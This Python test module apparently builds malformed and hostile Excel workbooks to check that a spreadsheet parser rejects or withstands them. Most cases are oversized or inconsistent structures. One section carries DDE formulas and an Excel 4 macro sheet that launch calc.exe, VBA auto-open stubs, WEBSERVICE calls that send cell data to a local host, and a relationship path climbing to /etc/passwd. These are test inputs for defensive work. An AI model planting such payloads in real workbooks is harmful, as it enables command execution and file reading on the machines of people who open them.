"""Sheets and workbooks whose content is out of all proportion, or points where it should not."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path

from jixiao.workbooks.limits import Limits
from tests.hostile.making import ANY, EVALUATION, REFUSED, Hostile, book, letters, merges_xml, sheet
from tests.workbooks.samples import MAIN, REL, parts, sheet_xml, styles_xml

SHEET = "xl/worksheets/sheet1.xml"
EITHER = ANY | REFUSED
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
MILLION = 1_000_000


def _rows(rows: str, after: str = "", before: str = "") -> Callable[[Path], Path]:
    return lambda folder: book(folder, parts(sheet_xml(rows, after=after, before=before)))


def _lazily(make: Callable[[], dict[str, str | bytes]]) -> Callable[[Path], Path]:
    return lambda folder: book(folder, make())


def _after(xml: str, rows: str = "") -> Callable[[Path], Path]:
    """A right evaluation with something behind its rows."""
    return _lazily(lambda: parts(EVALUATION.replace("</sheetData>", f"{rows}</sheetData>{xml}")))


def relationship(number: str, kind: str, target: str, *, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{number}" Type="{REL}/{kind}" Target="{target}"{mode}/>'


def relationships(*each: str) -> str:
    return f'<Relationships xmlns="{PACKAGE}">{"".join(each)}</Relationships>'


def _workbook(sheets: str, relations: str, after: str = "", **more: str | bytes) -> dict[str, str | bytes]:
    members = parts(EVALUATION)
    members["xl/workbook.xml"] = f'<workbook xmlns="{MAIN}" xmlns:r="{REL}"><sheets>{sheets}</sheets>{after}</workbook>'
    members["xl/_rels/workbook.xml.rels"] = relationships(relations)
    return {**members, **more}


def _sheet_entry(number: int, relation: str = "") -> str:
    return f'<sheet name="表{number}" sheetId="{number}" r:id="{relation or f"rId{number}"}"/>'


def _many_sheets(count: int) -> dict[str, str | bytes]:
    small = sheet_xml('<row r="1"><c r="A1"><v>1</v></c></row>')
    members = _workbook(
        "".join(map(_sheet_entry, range(1, count + 1))),
        "".join(relationship(f"rId{n}", "worksheet", f"worksheets/sheet{n}.xml") for n in range(1, count + 1)),
    )
    return {**members, **{f"xl/worksheets/sheet{n}.xml": small for n in range(2, count + 1)}}


def _amplified(count: int) -> dict[str, str | bytes]:
    """Many sheets, one content."""
    return _workbook("".join(_sheet_entry(n, "rId1") for n in range(1, count + 1)), relationship("rId1", "worksheet", "worksheets/sheet1.xml"))


def _only(kind: str) -> dict[str, str | bytes]:
    content = f'<{kind} xmlns="{MAIN}"/>'
    return _workbook(_sheet_entry(1), relationship("rId1", kind, "sheets/sheet1.xml"), **{"xl/sheets/sheet1.xml": content})


def _without(name: str) -> dict[str, str | bytes]:
    return {key: value for key, value in parts(EVALUATION).items() if key != name}


def _styles(xfs: str, formats: str = "") -> Callable[[Path], Path]:
    return _lazily(lambda: parts(EVALUATION, styles=styles_xml(xfs, formats)))


def _formula(formula: str, attributes: str = "", value: str = "90") -> Callable[[Path], Path]:
    """A right evaluation whose first score is such a formula."""
    return _lazily(lambda: parts(EVALUATION.replace('<c r="G7"><v>90</v>', f'<c r="G7"><f{attributes}>{formula}</f><v>{value}</v>')))


def _strings(count: int) -> str:
    return "".join(f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>第{n}行</t></is></c></row>' for n in range(1, count + 1))


def _linked(kind: str, target: str, *, external: bool) -> dict[str, str | bytes]:
    return {**parts(EVALUATION), "xl/worksheets/_rels/sheet1.xml.rels": relationships(relationship("rId1", kind, target, external=external))}


def _near_the_limit(quote: str, per_row: int, form: str) -> dict[str, str | bytes]:
    """A right evaluation, and below it as many cells as the limit lets pass, each with a text of its own."""
    rows = (Limits().cells - 100) // per_row
    rows = min(rows, 1_000_000)
    lines = []
    for row in range(20, 20 + rows):
        cells = "".join(f"<c r={quote}{letters(n)}{row}{quote} t={quote}{form.format(row=row, n=n)}</c>" for n in range(1, per_row + 1))
        lines.append(f"<row r={quote}{row}{quote}>{cells}</row>")
    return parts(EVALUATION.replace("</sheetData>", "".join(lines) + "</sheetData>"))


def _limits() -> Iterator[Hostile]:
    """The worst that is just within the limits: what is promised of memory and time is measured on these."""
    yield Hostile("limit-of-cells-one-a-row", _lazily(lambda: _near_the_limit('"', 1, 'inlineStr"><is><t>第{row}行</t></is>')), ANY, slow=True)
    yield Hostile("limit-of-cells-with-formulas", _lazily(lambda: _near_the_limit('"', 8, 'str"><f>A{row}&amp;{n}</f><v>第{row}行{n}列</v>')), ANY, slow=True)
    yield Hostile("limit-of-cells-written-in-another-way", _lazily(lambda: _near_the_limit("'", 8, "str'><f>A{row}&amp;{n}</f><v>第{row}行{n}列</v>")), ANY, slow=True)


def _active() -> Iterator[Hostile]:
    """What another program would execute or fetch; here it is carried and never touched."""
    macros = {**parts(EVALUATION), "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1Auto_Open Shell calc" * 100}
    yield Hostile("macros", lambda folder: book(folder, macros, "表.xlsm"))
    macro_sheet = f'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns="{MAIN}"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>'
    yield Hostile("macro-sheet-of-excel-4", _lazily(lambda: _workbook(
        _sheet_entry(1) + _sheet_entry(2), relationship("rId1", "worksheet", "worksheets/sheet1.xml")
        + '<Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.xml"/>',
        '<definedNames><definedName name="_xlnm.Auto_Open">表2!$A$1</definedName></definedNames>', **{"xl/macrosheets/sheet1.xml": macro_sheet},
    )))  # fmt: skip
    yield Hostile("dde-link", _formula("cmd|'/C calc.exe'!A0"))
    link = f'<externalLink xmlns="{MAIN}" xmlns:r="{REL}"><ddeLink ddeService="cmd" ddeTopic="/C calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'
    yield Hostile("dde-link-part", _lazily(lambda: {**parts(EVALUATION), "xl/externalLinks/externalLink1.xml": link}))
    yield Hostile("external-workbook", _formula("[1]表1!A1"))
    yield Hostile("web-query", _lazily(lambda: {**parts(EVALUATION), "xl/connections.xml": f'<connections xmlns="{MAIN}"><connection id="1" type="4" refreshOnLoad="1"><webPr url="http://127.0.0.1:9/"/></connection></connections>'}))
    yield Hostile("ole-object", _lazily(lambda: {**_linked("oleObject", "../embeddings/oleObject1.bin", external=False), "xl/embeddings/oleObject1.bin": b"MZ" * 5000}))
    yield Hostile("ole-link-to-a-server", _lazily(lambda: _linked("oleObject", "file:///\\\\127.0.0.1\\share\\a.doc", external=True)))
    yield Hostile("active-x", _lazily(lambda: {**parts(EVALUATION), "xl/activeX/activeX1.xml": '<ax:ocx xmlns:ax="a" ax:classid="{D27CDB6E-AE6D-11CF-96B8-444553540000}"/>', "xl/activeX/activeX1.bin": b"\0" * 99}))
    yield Hostile("template-from-a-server", _lazily(lambda: _linked("image", "http://127.0.0.1:9/a.png", external=True)))
    yield Hostile("functions-that-fetch", _formula('WEBSERVICE("http://127.0.0.1:9/?"&amp;A1)+HYPERLINK("file:///c:/a.exe")'))


def _structure() -> Iterator[Hostile]:
    """Workbooks whose parts do not fit together."""
    yield Hostile("sheets-2001", _lazily(lambda: _many_sheets(2001)), REFUSED, "工作表数.*上限")
    yield Hostile("sheets-2000", _lazily(lambda: _many_sheets(2000)))
    yield Hostile("sheets-100-thousand-listed", _lazily(lambda: _workbook("".join(map(_sheet_entry, range(1, 100_001))), relationship("rId1", "worksheet", "worksheets/sheet1.xml"))), REFUSED, "工作表数.*上限")
    yield Hostile("sheets-of-one-content", _lazily(lambda: _amplified(1000)), REFUSED, "同一份内容")
    yield Hostile("sheet-related-to-itself", _lazily(lambda: {**parts(EVALUATION), "xl/worksheets/_rels/sheet1.xml.rels": relationships(relationship("rId1", "drawing", "sheet1.xml"), relationship("rId2", "table", "sheet1.xml"))}))
    yield Hostile("workbook-that-is-its-own-sheet", _lazily(lambda: _workbook(_sheet_entry(1), relationship("rId1", "worksheet", "workbook.xml"))), EITHER)
    yield Hostile("workbook-that-is-its-own-styles", _lazily(lambda: _workbook(_sheet_entry(1), relationship("rId1", "worksheet", "worksheets/sheet1.xml") + relationship("rId2", "styles", "workbook.xml") + relationship("rId3", "sharedStrings", "workbook.xml"))), EITHER)
    yield Hostile("relationships-in-a-circle", _lazily(lambda: {**parts(EVALUATION), "_rels/.rels": relationships(relationship("rId1", "officeDocument", "_rels/.rels"))}), EITHER)
    yield Hostile("relationships-that-climb", _lazily(lambda: {**parts(EVALUATION), "_rels/.rels": relationships(relationship("rId1", "officeDocument", "../../../../etc/passwd"))}), EITHER)
    yield Hostile("relationships-a-million", _lazily(lambda: {**parts(EVALUATION), "xl/worksheets/_rels/sheet1.xml.rels": relationships(*(relationship(f"r{n}", "hyperlink", "http://a", external=True) for n in range(MILLION)))}), EITHER)
    yield Hostile("relationships-of-the-package-a-million", _lazily(lambda: {**parts(EVALUATION), "_rels/.rels": relationships(relationship("rId0", "officeDocument", "xl/workbook.xml"), *(relationship(f"r{n}", "image", "a.png") for n in range(MILLION)))}), REFUSED, "链接数.*上限")
    for name in ("[Content_Types].xml", "_rels/.rels", "xl/_rels/workbook.xml.rels", SHEET, "xl/workbook.xml"):
        yield Hostile(f"without-{name.strip('[').replace(']', '').replace('/', '-')}", _lazily(lambda name=name: _without(name)), EITHER | {2})  # type: ignore[misc]  # bound now
    yield Hostile("content-types-wrong", _lazily(lambda: {**parts(EVALUATION), "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="image/png"/></Types>'}))
    for kind in ("chartsheet", "dialogsheet"):
        yield Hostile(f"only-a-{kind}", _lazily(lambda kind=kind: _only(kind)), REFUSED, "没有工作表")  # type: ignore[misc]  # bound now
    yield Hostile("names-a-million", _lazily(lambda: _workbook(_sheet_entry(1), relationship("rId1", "worksheet", "worksheets/sheet1.xml"), "<definedNames>" + "".join(f'<definedName name="n{n}">A1</definedName>' for n in range(MILLION)) + "</definedNames>")), REFUSED, "名称数.*上限")
    yield Hostile("names-90-thousand", _lazily(lambda: _workbook(_sheet_entry(1), relationship("rId1", "worksheet", "worksheets/sheet1.xml"), "<definedNames>" + "".join(f'<definedName name="n{n}">A1</definedName>' for n in range(90_000)) + "</definedNames>")))
    yield Hostile("sheet-names-that-are-formulas", _lazily(lambda: _workbook('<sheet name="=cmd|\'/C calc\'!A0" sheetId="1" r:id="rId1"/>', relationship("rId1", "worksheet", "worksheets/sheet1.xml"))))
    yield Hostile("sheet-names-alike", _lazily(lambda: _workbook('<sheet name="校验" sheetId="1" r:id="rId1"/><sheet name="校验" sheetId="1" r:id="rId2"/>', relationship("rId1", "worksheet", "worksheets/sheet1.xml") + relationship("rId2", "worksheet", "worksheets/s2.xml"), **{"xl/worksheets/s2.xml": EVALUATION})))


def cases() -> Iterator[Hostile]:
    """All hostile sheets."""
    yield Hostile("cell-far-away", _rows('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>'), frozenset({3}), "没有认出")
    yield Hostile("rows-a-million-with-one-cell", _lazily(lambda: parts(sheet_xml(_strings(MILLION)))), frozenset({3}), "没有认出", slow=True)
    yield Hostile("rows-a-million-empty", _lazily(lambda: parts(EVALUATION.replace("</sheetData>", "".join(f'<row r="{n}"/>' for n in range(100, 1_048_000)) + "</sheetData>"))))
    yield Hostile("rows-20-million-of-one-number", _lazily(lambda: parts(sheet_xml('<row r="1"/>' * 20 * MILLION))), REFUSED, "行号|压缩比")
    yield Hostile("cells-over-the-limit", _lazily(lambda: parts(sheet_xml("".join(f'<row r="{n}">{"<c><v>1</v></c>" * 16}</row>' for n in range(1, 100_000))))), REFUSED, "单元格总数.*上限|压缩比")
    yield Hostile("row-number-beyond-the-last", _rows('<row r="1048577"><c r="A1048577"><v>1</v></c></row>'), REFUSED, "行号")
    yield Hostile("row-number-of-19-digits", _rows('<row r="1000000000000000000"><c r="A1"><v>1</v></c></row>'), REFUSED, "行号")
    yield Hostile("row-number-zero-or-less", _rows('<row r="0"/><row r="-1"/>'), REFUSED, "行号")
    yield Hostile("row-number-of-a-million-digits", _rows(f'<row r="{"9" * MILLION}"/>'), REFUSED, "行号")
    yield Hostile("column-zzzzzz", _rows('<row r="1"><c r="ZZZZZZ1"><v>1</v></c></row>'), REFUSED, "单元格地址")
    yield Hostile("column-beyond-the-last", _rows('<row r="1"><c r="XFE1"><v>1</v></c></row>'), REFUSED, "单元格地址")
    yield Hostile("column-of-a-million-letters", _rows(f'<row r="1"><c r="{"A" * MILLION}1"><v>1</v></c></row>'), REFUSED, "单元格地址")
    yield Hostile("columns-beyond-the-last-without-address", _rows(f'<row r="1">{"<c><v>1</v></c>" * 20_000}</row>'), REFUSED, "单元格地址")
    yield Hostile("addresses-that-contradict-their-row", _rows('<row r="1"><c r="A9"><v>1</v></c><c r="A9"><v>2</v></c></row>'), EITHER)
    yield Hostile("rows-from-the-last-to-the-first", _lazily(lambda: parts(sheet_xml("".join(f'<row r="{n}"><c r="A{n}"><v>1</v></c></row>' for n in range(50_000, 0, -1))))), frozenset({3}), "没有认出")
    yield Hostile("dimension-that-lies", _lazily(lambda: parts(EVALUATION.replace("<sheetData>", '<dimension ref="A1:XFD1048576"/><sheetData>'))))
    yield Hostile("columns-with-styles-a-million", _lazily(lambda: parts(EVALUATION.replace("<sheetData>", "<cols>" + '<col min="1" max="16384" style="0"/>' * MILLION + "</cols><sheetData>"))), slow=True)
    yield Hostile("merges-a-million", _lazily(lambda: parts(EVALUATION.replace("</sheetData>", "</sheetData>" + merges_xml([f"J{n}:K{n}" for n in range(1, MILLION)])))), REFUSED, "合并单元格数.*上限")
    yield Hostile("merges-100-thousand", _lazily(lambda: parts(EVALUATION.replace("</sheetData>", "</sheetData>" + merges_xml([f"J{n}:K{n}" for n in range(1, 100_000)])))))
    yield Hostile("merge-over-everything", _lazily(lambda: parts(sheet(merges=["A1:XFD1048576"]))))
    yield Hostile("merges-over-one-another", _lazily(lambda: parts(sheet(merges=[f"A{n}:XFD1048576" for n in range(1, 5000)]))))
    yield Hostile("merges-that-are-none", _lazily(lambda: parts(sheet(merges=["", "A1", "A1:", ":", "A0:B0", "ZZZZ9:A1", "C3:A1", "1:1", "A:A", "A1:B2:C3", "$A$1:$H$1"]))))
    yield Hostile("validations-a-million", _after("<dataValidations>" + '<dataValidation sqref="A1:XFD1048576"/>' * MILLION + "</dataValidations>"), slow=True)
    yield Hostile("styles-over-the-limit", _styles("<xf/>" * 200_000), REFUSED, "单元格格式数.*上限")
    yield Hostile("styles-65536", _styles("<xf/>" * 65_536), ANY | {2})  # read, and not written: there is no room for ours
    yield Hostile("number-formats-a-hundred-thousand", _styles('<xf numFmtId="200"/>', "<numFmts>" + "".join(f'<numFmt numFmtId="{n}" formatCode="0.0{n}"/>' for n in range(164, 100_000)) + "</numFmts>"))
    for name, code in {
        "zeros": "0" * MILLION, "hashes": "#" * 100_000 + ",", "quotes": "&quot;" * 100_001, "brackets": "[" * 100_000, "brackets-closed": "[]" * 100_000 + "y", "sections": ";" * 100_000,
        "escapes": "\\" * 100_001, "stars": "*" * 100_001, "points": "0." * 100_000, "dates": "ymdhs" * 100_000,
    }.items():  # fmt: skip
        yield Hostile(f"number-format-of-{name}", _lazily(lambda code=code: parts(EVALUATION.replace('<c r="G7">', '<c r="G7" s="0">'), styles=styles_xml('<xf numFmtId="200"/>', f'<numFmts><numFmt numFmtId="200" formatCode="{code}"/></numFmts>'))))  # type: ignore[misc]  # bound now
    yield Hostile("formula-of-8192-letters", _formula("SUM(" * 1500 + "1" + ")" * 1500))
    yield Hostile("formula-of-10-million-letters", _formula("1+" * 5 * MILLION + "1"))
    yield Hostile("formula-that-refers-to-itself", _formula("G7"))
    yield Hostile("formulas-shared-in-a-circle", _formula("", ' t="shared" si="0" ref="A1:XFD1048576"'))
    yield Hostile("formulas-shared-without-a-master", _formula("", ' t="shared" si="99999"'))
    yield Hostile("formula-array-over-everything", _formula("A1", ' t="array" ref="A1:XFD1048576"'))
    yield Hostile("formula-of-a-data-table", _formula("", ' t="dataTable" ref="A1:XFD1048576" dt2D="1" r1="A1" r2="A1"'))
    yield Hostile("formula-without-a-value", _formula("1/0", value=""))
    yield Hostile("cell-of-unknown-kind", _lazily(lambda: parts(EVALUATION.replace('<c r="G7">', '<c r="G7" t="hostile">'))))
    yield Hostile("cell-with-two-values", _lazily(lambda: parts(EVALUATION.replace("<v>90</v>", "<v>90</v><v>1</v><is><t>2</t></is>"))))
    yield Hostile("protection-by-a-costly-password", _after('<sheetProtection sheet="1" algorithmName="SHA-512" spinCount="4294967295" hashValue="AA==" saltValue="AA=="/>'))
    yield from _structure()
    yield from _limits()
    yield from _active()
